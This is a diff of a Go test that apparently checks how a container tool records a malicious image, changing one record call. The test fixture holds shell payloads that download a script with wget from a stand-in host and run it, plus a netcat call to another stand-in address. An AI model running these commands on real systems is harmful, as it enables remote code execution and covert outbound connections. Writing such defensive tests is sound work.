@@ -32,7 +32,7 @@ func TestAMaliciousImageRecordedHere(t *testing.T) {
 	l.serve("/x.sh", "#!/bin/sh\nnc -w 2 203.0.113.66 4444 </dev/null\nsleep 1\n")
 	l.push(untrusted, "#!/bin/sh\nwget -q -O /tmp/x.sh http://198.51.100.10/x.sh\nchmod +x /tmp/x.sh\n/tmp/x.sh\nsleep 60\n")
 	l.push(trusted, "#!/bin/sh\nexec httpd -f -p 80\n")
-	l.record()
+	l.record("run")
 	l.docker("pull", "-q", trusted)
 	good := l.docker("run", "-d", "--name", "web", trusted)
 	time.Sleep(2 * time.Second)
